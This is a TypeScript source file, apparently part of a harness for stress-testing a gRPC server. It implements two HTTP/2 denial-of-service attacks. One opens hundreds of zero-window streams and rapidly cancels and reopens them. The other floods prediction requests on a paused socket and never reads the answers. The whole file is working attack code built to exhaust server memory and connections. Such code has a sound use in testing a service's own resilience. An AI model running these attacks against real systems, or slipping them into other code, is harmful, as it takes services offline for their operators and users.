/**
 * Two ways to ask without taking answers, on one HTTP/2 connection each: requests stay or come anew as fast as the
 * server takes them.
 */
import { Buffer } from 'node:buffer';
import { connect, type Socket } from 'node:net';
import { setImmediate as turn } from 'node:timers/promises';
import { callFields, F, greeting, headers, data as request, reset, windowUpdate } from '../../support/http2-frames.ts';
import { type Counts, count, pause, until } from '../driving.ts';
import { type Attack, PREDICT_PATH, predictFrame, type Target } from './attack.ts';

const INITIAL_WINDOW = 4;
const CANCEL = 8;
/** Streams that are open at once, below what the server allows. */
const STREAMS = 500;
const REOPEN_MS = 20;
const RECONNECT_MS = 20;

function call(target: Target, id: number, message: Uint8Array): Buffer {
  const head = headers(id, callFields(PREDICT_PATH, target.grpc), F.END_HEADERS);
  return Buffer.concat([head, request(id, message, true)]);
}

/** Opens a connection; resolves with it when it is open, or undefined if it fails. */
function open(target: Target, values: Readonly<Record<number, number>>): Promise<Socket | undefined> {
  const [host, port] = target.grpc.split(':');
  return new Promise((resolve) => {
    const socket = connect(Number(port), host);
    socket.on('error', () => resolve(undefined));
    socket.on('connect', () => {
      socket.write(Buffer.concat([greeting(values), windowUpdate(0, 2 ** 30)]));
      resolve(socket);
    });
  });
}

/** `rows` a request; no answer fits its stream's window. Open streams are cancelled and opened anew. */
export function zeroWindowStreams(rows: number): Attack {
  return (target, seconds, signal) =>
    connections(target, seconds, signal, { [INITIAL_WINDOW]: 0 }, async (socket, counts, end) => {
      const message = predictFrame(target, rows);
      socket.resume();
      for (let id = 1; !end.aborted && !socket.destroyed && id < 2 ** 30; ) {
        const calls: Buffer[] = [];
        const first = id;
        for (let i = 0; i < STREAMS; i++, id += 2) calls.push(call(target, id, message));
        count(counts, 'rounds');
        counts['sent'] = (counts['sent'] ?? 0) + STREAMS;
        socket.write(Buffer.concat(calls));
        await pause(REOPEN_MS, end);
        const resets: Buffer[] = [];
        for (let i = first; i < id; i += 2) resets.push(reset(i, CANCEL));
        socket.write(Buffer.concat(resets));
      }
    });
}

/** `rows` a request, as fast as the server reads; nothing that it answers is read. */
export function unreadAnswers(rows: number): Attack {
  return (target, seconds, signal) =>
    connections(target, seconds, signal, {}, async (socket, counts, end) => {
      const message = predictFrame(target, rows);
      socket.pause();
      for (let id = 1; !end.aborted && !socket.destroyed && id < 2 ** 30; ) {
        const calls: Buffer[] = [];
        for (let i = 0; i < 64; i++, id += 2) calls.push(call(target, id, message));
        counts['sent'] = (counts['sent'] ?? 0) + 64;
        if (!socket.write(Buffer.concat(calls))) await drained(socket, end);
        // A server that reads as fast as this writes must not keep this process from all else.
        else await turn();
      }
    });
}

/** Resolves when the socket takes more, has closed, or the attack ends. */
function drained(socket: Socket, end: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const done = (): void => resolve();
    socket.once('drain', done);
    socket.once('close', done);
    end.addEventListener('abort', done, { once: true });
  });
}

/** Runs `attack` on one connection after the other: the server closes those that take nothing. */
async function connections(
  target: Target,
  seconds: number,
  signal: AbortSignal,
  values: Readonly<Record<number, number>>,
  attack: (socket: Socket, counts: Counts, end: AbortSignal) => Promise<void>,
): Promise<Counts> {
  const counts: Counts = {};
  const end = until(seconds, signal);
  while (!end.aborted) {
    const socket = await open(target, values);
    if (socket === undefined) {
      count(counts, 'refused');
      await pause(RECONNECT_MS, end);
      continue;
    }
    count(counts, 'connections');
    await attack(socket, counts, end);
    socket.destroy();
  }
  return counts;
}
